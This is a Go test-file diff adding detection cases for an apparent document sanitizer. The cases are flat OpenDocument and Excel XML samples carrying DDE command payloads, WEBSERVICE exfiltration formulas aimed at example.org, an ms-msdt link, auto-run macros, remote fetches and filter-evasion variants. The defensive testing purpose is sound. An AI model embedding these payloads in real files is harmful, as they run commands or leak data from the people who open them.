@@ -84,6 +84,32 @@ func flatOfficeCases() []Case {
 	runs("opendocument-with-a-macro-on-load", flatODF(`<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>`))
 	runs("opendocument-with-an-object-from-the-web", flatODF(`<draw:object xlink:href="http://example.org/a.ods"/>`))
 	runs("opendocument-with-a-macro-book-inside", flatODF(`<draw:object-ole><o:binary-data>`+inBase64(macroBook)+`</o:binary-data></draw:object-ole>`))
+	runs("opendocument-with-a-macro-of-another-element", flatODF(`<script:event script:event-name="dom:load" script:macro-name="a"/>`))
+	runs("opendocument-with-a-form-that-fetches", flatODF(`<x:instance xmlns:x="http://www.w3.org/2002/xforms" src="http://example.org/a.xml"/>`))
+	runs("opendocument-with-a-form-that-fetches-by-another-prefix", flatODF(`<x:instance xmlns:x="http://www.w3.org/2002/xforms" text:src="file:///etc/hostname"/>`))
+	runs("opendocument-with-a-rule-that-sends-cells", flatODF(`<c:condition xmlns:c="urn:c" c:value="formula-is(WEBSERVICE(&quot;http://example.org/&quot;))"/>`))
+	runs("opendocument-with-a-table-from-the-web", flatODF(`<t:table-source xmlns:t="urn:t" xlink:href="http://example.org/a.csv"/>`))
+	runs("opendocument-with-dde-to-the-web", flatODF(`<o:dde-source o:dde-application="soffice" o:dde-topic="http://example.org/a.ods"/>`))
+	others := func(s string) string {
+		return strings.ReplaceAll(s, "urn:oasis:names:tc:opendocument:", "urn:oasis:names:tc:anything:")
+	}
+	runs("opendocument-of-another-committee-with-a-link-that-runs", others(flatODF(`<text:a xlink:href="ms-msdt:/id"/>`)))
+	runs("opendocument-of-another-committee-with-a-macro", others(flatODF(`<script:event-listener script:macro-name="a"/>`)))
+	runs("listener-of-another-committee", `<a xmlns:s="urn:oasis:names:tc:anything:xmlns:script:1.0"><s:event-listener/></a>`)
+	rule := func(element, formula string) string {
+		return flatSheet(`<Worksheet ss:Name="a"><x:ConditionalFormatting xmlns:x="urn:schemas-microsoft-com:office:excel"><x:Range>R1C1</x:Range><x:Condition><x:` + element + `>` + formula + `</x:` + element + `></x:Condition></x:ConditionalFormatting></Worksheet>`)
+	}
+	for _, element := range []string{"Value", "Value1", "Value2", "Min", "Max"} {
+		runs("excel-with-dde-in-a-rule-"+element, rule(element, `cmd|'/c calc'!A0`))
+	}
+	runs("excel-with-a-rule-that-sends-cells", rule("Value1", `LEN(WEBSERVICE(&quot;http://example.org/&quot;))&gt;<![CDATA[1]]>`))
+	runs("excel-with-a-split-rule-that-sends-cells", rule("Value1", `LEN(WEB<!-- -->SERVICE(1))`))
+	add("", "excel-with-a-rule", rule("Value1", `LEN(&quot;WEBSERVICE(1) cmd|'a'!A1&quot;)&gt;R1C1`))
+	add("", "excel-with-a-list", rule("Value", `&quot;call (me),exec (2)&quot;`))
+	add("", "opendocument-with-a-form", flatODF(`<x:instance xmlns:x="http://www.w3.org/2002/xforms" src="#a"/><form:option xmlns:form="urn:f" form:value="call (me)"/>`))
+	add("", "opendocument-of-another-committee", others(flatODF(`<text:a xlink:href="https://example.org/">x</text:a>`)))
+	add("", "catalogue-of-another-committee", `<catalog xmlns="urn:oasis:names:tc:entity:xmlns:xml:catalog"><uri name="http://example.org/a.xsd" uri="a.xsd"/><system systemId="http://example.org/a.dtd" uri="file:///usr/share/a.dtd"/></catalog>`)
+	add("", "of-others-with-rules", `<a xmlns:x="urn:x"><x:Value1>cmd|'/c calc'!A0</x:Value1><condition value="WEBSERVICE(1)"/></a>`)
 	add(airlock.Uninspectable, "excel-whose-formula-is-endless", flatCell(`ss:Formula="=`+strings.Repeat(" ", 70000)+`cmd|'/c calc'!A0"`))
 
 	picture := "\x89PNG\r\n\x1a\n" + strings.Repeat("x", 20000)
